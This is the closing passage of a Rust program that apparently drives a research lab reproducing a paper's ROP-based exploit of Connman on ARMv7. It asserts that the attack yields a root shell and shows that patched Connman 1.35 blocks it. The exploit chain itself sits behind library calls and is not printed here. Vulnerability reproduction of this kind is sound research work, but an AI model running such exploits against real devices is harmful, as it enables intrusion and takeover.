    let rce = lab.run_exploit(&RopMemcpyChain::new(Arch::Armv7))?;
    println!("[2] ROP memcpy chain    → {}", rce.outcome);
    println!("\ngenerated chain (cf. paper Listing 5):\n{}", rce.listing);
    assert_eq!(rce.outcome, AttackOutcome::RootShell);

    // 4. The patched firmware (Connman 1.35) shrugs both off:
    //    reconnaissance cannot even crash it.
    let patched =
        Lab::new(FirmwareKind::Patched, Arch::Armv7).with_protections(Protections::full());
    match patched.run_exploit(&RopMemcpyChain::new(Arch::Armv7)) {
        Err(e) => println!("[3] same attack vs Connman 1.35 → blocked: {e}"),
        Ok(r) => println!("[3] unexpected: {}", r.outcome),
    }
    Ok(())
}
